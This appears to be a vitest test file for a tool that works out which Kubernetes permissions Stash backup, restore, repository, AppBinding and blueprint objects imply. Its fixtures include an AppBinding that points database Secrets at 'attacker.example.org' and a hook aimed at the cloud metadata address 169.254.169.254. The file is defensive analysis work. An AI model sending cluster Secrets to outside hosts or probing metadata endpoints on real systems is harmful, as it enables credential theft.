import { describe, expect, test } from "vitest";
import { parseAppBinding } from "../../../../shared/api/app-binding.ts";
import { parseBackupBatch } from "../../../../shared/api/backup-batch.ts";
import { parseBackupBlueprint } from "../../../../shared/api/backup-blueprint.ts";
import { parseRepository } from "../../../../shared/api/repository.ts";
import { parseRestoreBatch } from "../../../../shared/api/restore-batch.ts";
import { appBindingsOf, type EffectSource, type EffectView, effectsOf } from "../../../../shared/effects/of-object.ts";
import { formatEffect } from "../../../../shared/effects/types.ts";
import { backupInvokerView, restoreInvokerView } from "../../../../shared/invoker/object.ts";

const WEB = { apiVersion: "apps/v1", kind: "Deployment", name: "web" };
const DB = { apiVersion: "appcatalog.appscode.com/v1alpha1", kind: "AppBinding", name: "db" };
const FILES = { apiVersion: "v1", kind: "PersistentVolumeClaim", name: "files" };
const retentionPolicy = { name: "k", keepLast: 1, prune: true };
const claim = { metadata: { name: "data-0" }, spec: {} };

const backup = (members: readonly object[], spec: object = {}) =>
  backupInvokerView(
    parseBackupBatch({
      apiVersion: "stash.appscode.com/v1beta1",
      kind: "BackupBatch",
      metadata: { name: "b", namespace: "demo" },
      spec: { repository: { name: "r" }, retentionPolicy, members, ...spec },
    }),
  );

const restore = (members: readonly object[], spec: object = {}) =>
  restoreInvokerView(
    parseRestoreBatch({
      apiVersion: "stash.appscode.com/v1beta1",
      kind: "RestoreBatch",
      metadata: { name: "b", namespace: "demo" },
      spec: { repository: { name: "r" }, members, ...spec },
    }),
  );

const NONE: EffectView = { appSecrets: new Map(), labelled: [] };
const lines = (source: EffectSource, view = NONE): readonly string[] => effectsOf(source, view).map(formatEffect);
const settings = (runtimeSettings: object) => lines(backup([{ target: { ref: WEB }, runtimeSettings }])).slice(1);

describe("a member", () => {
  test("of a workload updates it, and nothing more", () => {
    expect(lines(backup([{ target: { ref: WEB } }]))).toEqual(["update deployments demo/web"]);
    expect(lines(restore([{ target: { ref: WEB } }]))).toEqual(["update deployments demo/web"]);
  });

  test("that joined by its label is the batch author's to update: he decides where its data goes", () => {
    const labelled = [
      { kind: "Deployment", namespace: "demo", name: "web" },
      { kind: "StatefulSet", namespace: "demo", name: "db" },
    ];
    expect(lines(backup([]), { ...NONE, labelled })).toEqual([
      "update deployments demo/web",
      "update statefulsets demo/db",
    ]);
  });

  test("that a job works for makes pods, in which any ServiceAccount can be used", () => {
    const pods = "create pods in namespace demo";
    expect(lines(backup([{ target: { ref: FILES } }]))).toEqual(["update persistentvolumeclaims demo/files", pods]);
    expect(lines(backup([{ target: { ref: DB }, task: { name: "t" } }]))).toEqual(["get appbindings demo/db", pods]);
    expect(lines(backup([{ target: { ref: WEB }, task: { name: "t" } }]))).toEqual([
      "update deployments demo/web",
      pods,
    ]);
    expect(lines(backup([{ task: { name: "kubedump-backup" } }]))).toEqual([pods]);
    expect(lines(backup([{ target: { ref: { kind: "Foo", name: "x" } }, task: { name: "pvc-backup" } }]))).toEqual([
      pods,
    ]);
  });

  test("of a database writes what its Secrets open when it is restored", () => {
    const members = [{ target: { ref: DB } }];
    const known = { ...NONE, appSecrets: new Map([["AppBinding/demo/db", ["auth", "tls"]]]) };
    expect(lines(restore(members), known)).toContain("get secrets demo/auth");
    expect(lines(restore(members), known)).toContain("get secrets demo/tls");
    expect(lines(restore(members)), "one that is not there may name any").toContain("get secrets in namespace demo");
    expect(lines(backup(members), known).join()).not.toContain("secrets");
    expect(appBindingsOf(restore(members))).toHaveLength(1);
    expect(appBindingsOf(backup(members))).toEqual([]);
  });

  test("with claims to be made makes claims", () => {
    const made = "create persistentvolumeclaims in namespace demo";
    const templates = restore([{ target: { volumeClaimTemplates: [claim], rules: [] } }]);
    expect(lines(templates)).toEqual(["create pods in namespace demo", made]);
    expect(lines(backup([{ target: { ref: WEB }, interimVolumeTemplate: claim }]))).toContain(made);
  });

  test.each(["preBackup", "postBackup"])("with an exec hook (%s) runs programs in pods of the namespace", (hook) => {
    const hooks = { [hook]: { exec: { command: ["id"] } } };
    expect(lines(backup([{ target: { ref: WEB }, hooks }]))).toContain("create pods/exec in namespace demo");
    const other = { [hook]: { httpGet: { port: 1 } } };
    expect(lines(backup([{ target: { ref: WEB }, hooks: other }]))).toEqual(["update deployments demo/web"]);
  });
});

describe("hooks of the whole batch", () => {
  test.each<[string, object]>([
    ["exec", { exec: { command: ["id"] } }],
    ["httpGet", { httpGet: { host: "169.254.169.254", port: 80 } }],
    ["httpPost", { httpPost: { host: "h", port: 80 } }],
    ["tcpSocket", { tcpSocket: { host: "h", port: 80 } }],
  ])("S4: of the kind %s run in a pod", (_kind, handler) => {
    expect(lines(backup([], { hooks: { preBackup: handler } }))).toEqual(["create pods in namespace demo"]);
    expect(lines(backup([], { hooks: { postBackup: handler } }))).toEqual(["create pods in namespace demo"]);
    expect(lines(restore([], { hooks: { postRestore: handler } }))).toEqual(["create pods in namespace demo"]);
  });
});

describe("runtimeSettings", () => {
  test.each<[string, object, readonly string[]]>([
    [
      "a variable of a Secret",
      { env: [{ name: "A", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }] },
      ["get secrets demo/s"],
    ],
    [
      "a variable of a ConfigMap",
      { env: [{ name: "A", valueFrom: { configMapKeyRef: { name: "c", key: "k" } } }] },
      ["get configmaps demo/c"],
    ],
    ["all keys of a Secret", { envFrom: [{ secretRef: { name: "s" } }] }, ["get secrets demo/s"]],
    ["all keys of a ConfigMap", { envFrom: [{ configMapRef: { name: "c" } }] }, ["get configmaps demo/c"]],
    ["nothing", { resources: { limits: { cpu: "1" } }, env: [{ name: "A", value: "secret" }] }, []],
  ])("S6c: name %s", (_what, container, expected) => {
    expect(settings({ container })).toEqual(expected);
  });

  test("S6c: name ServiceAccounts, pull secrets and rights in a cloud", () => {
    expect(settings({ pod: { serviceAccountName: "admin" } })).toEqual([
      "get serviceaccounts demo/admin",
      "create pods in namespace demo",
    ]);
    expect(settings({ pod: { imagePullSecrets: [{ name: "a" }, { name: "b" }] } })).toEqual([
      "get secrets demo/a",
      "get secrets demo/b",
    ]);
    expect(settings({ pod: { serviceAccountAnnotations: { "eks.amazonaws.com/role-arn": "x" } } })).toEqual([
      "create serviceaccounts in namespace demo",
    ]);
  });

  test("of a whole batch are those of a pod of its own", () => {
    const container = { envFrom: [{ secretRef: { name: "s" } }] };
    expect(lines(backup([], { runtimeSettings: { container } }))).toEqual([
      "create pods in namespace demo",
      "get secrets demo/s",
    ]);
  });
});

describe("a Repository", () => {
  const repository = (backend: object) =>
    parseRepository({
      apiVersion: "stash.appscode.com/v1alpha1",
      kind: "Repository",
      metadata: { name: "r", namespace: "demo" },
      spec: { backend },
    });

  test("S6e: hands its Secret out", () => {
    expect(lines(repository({ storageSecretName: "crown", s3: { endpoint: "e", bucket: "b" } }))).toEqual([
      "get secrets demo/crown",
    ]);
  });

  test.each<[object, readonly string[]]>([
    [{ secret: { secretName: "s" } }, ["get secrets demo/s"]],
    [
      { projected: { sources: [{ secret: { name: "s" } }, { configMap: { name: "c" } }] } },
      ["get configmaps demo/c", "get secrets demo/s"],
    ],
    [{ csi: { driver: "d", nodePublishSecretRef: { name: "s" } } }, ["get secrets demo/s"]],
    [{ azureFile: { secretName: "s", shareName: "x" } }, ["get secrets demo/s"]],
    [{ persistentVolumeClaim: { claimName: "p" } }, ["update persistentvolumeclaims demo/p"]],
    [{ emptyDir: {} }, []],
    [{ hostPath: { path: "/var", type: "Directory" } }, []],
  ])("S6: mounts what the volume of a local backend names, in a pod of its own: %j", (source, expected) => {
    expect(lines(repository({ local: { mountPath: "/safe/r", ...source } }))).toEqual([
      ...expected,
      "create pods in namespace demo",
    ]);
  });
});

test("an AppBinding sends its Secrets to its address", () => {
  const binding = parseAppBinding({
    apiVersion: "appcatalog.appscode.com/v1alpha1",
    kind: "AppBinding",
    metadata: { name: "db", namespace: "demo" },
    spec: {
      clientConfig: { url: "tcp://attacker.example.org:3306" },
      secret: { name: "auth" },
      tlsSecret: { name: "tls" },
      secretTransforms: [{ addKeysFrom: { secretRef: { name: "more" } } }],
    },
  });
  const secrets = ["get secrets demo/auth", "get secrets demo/tls", "get secrets demo/more"];
  expect(lines(binding)).toEqual([...secrets, "create pods in namespace demo"]);
  // Without any it still says where the data goes.
  const bare = { ...binding, spec: { clientConfig: binding.spec.clientConfig } };
  expect(lines(bare)).toEqual(["create pods in namespace demo"]);
});

test("S11: a blueprint hands out the Secret of another namespace", () => {
  const blueprint = (repoNamespace: string | undefined, storageSecretName = "s") =>
    parseBackupBlueprint({
      apiVersion: "stash.appscode.com/v1beta1",
      kind: "BackupBlueprint",
      metadata: { name: "b" },
      spec: { repoNamespace, backend: { storageSecretName, s3: { endpoint: "e", bucket: "b" } }, retentionPolicy },
    });
  expect(lines(blueprint("vault"))).toEqual(["get secrets vault/s"]);
  expect(lines(blueprint("${TARGET_NAMESPACE}-x"))).toEqual(["get secrets s in all namespaces"]);
  expect(lines(blueprint("vault", "${TARGET_NAME}"))).toEqual(["get secrets in namespace vault"]);
  expect(lines(blueprint(undefined))).toEqual([]);
});

test("S11: a blueprint with a local backend makes pods that mount its volume", () => {
  const blueprint = (repoNamespace: string | undefined, local: object) =>
    parseBackupBlueprint({
      apiVersion: "stash.appscode.com/v1beta1",
      kind: "BackupBlueprint",
      metadata: { name: "b" },
      spec: {
        repoNamespace,
        backend: { storageSecretName: "s", local: { mountPath: "/safe/r", ...local } },
        retentionPolicy,
      },
    });
  const folder = { hostPath: { path: "/var" } };
  expect(lines(blueprint("vault", folder))).toEqual(["get secrets vault/s", "create pods in namespace vault"]);
  expect(lines(blueprint("vault", { persistentVolumeClaim: { claimName: "p" } }))).toEqual([
    "get secrets vault/s",
    "update persistentvolumeclaims vault/p",
    "create pods in namespace vault",
  ]);
  expect(lines(blueprint("${TARGET_NAMESPACE}", { secret: { secretName: "${TARGET_NAME}" } }))).toEqual([
    "get secrets s in all namespaces",
    "get secrets in all namespaces",
    "create pods in all namespaces",
  ]);
  // Secrets and claims are each namespace's own there, pods are made in all of them.
  expect(lines(blueprint(undefined, { persistentVolumeClaim: { claimName: "p" } }))).toEqual([
    "create pods in all namespaces",
  ]);
});

test("an effect that several members have is one", () => {
  const job = { target: { ref: FILES } };
  expect(lines(backup([job, job, job]))).toHaveLength(2);
});
